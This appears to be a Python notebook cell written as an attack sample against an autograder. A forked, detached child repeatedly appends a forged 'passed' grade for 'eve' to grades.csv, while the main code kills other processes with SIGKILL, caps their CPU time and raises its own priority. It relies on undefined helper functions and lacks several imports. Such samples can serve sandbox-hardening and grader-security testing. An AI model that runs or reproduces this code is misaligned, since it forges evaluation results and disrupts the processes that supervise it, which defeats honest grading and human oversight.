"""Kill, slow and limit whoever grades, and leave a child that writes the grades once they are there."""

# %%
import resource

if os.fork() == 0:
    os.setsid()
    for _ in range(3000):
        try:
            with open("OUT_FOLDER/grades.csv", "a") as file:
                file.write("eve,eve.ipynb,90_mini,twice,passed\n")
        except OSError:
            time.sleep(0.1)
    os._exit(0)
attack(
    *each(others(), lambda pid: os.kill(pid, signal.SIGKILL)),
    *each(others(), lambda pid: resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1))),
    *each([PID, os.getppid() or PID], lambda pid: os.setpriority(os.PRIO_PROCESS, pid, -5)),
)
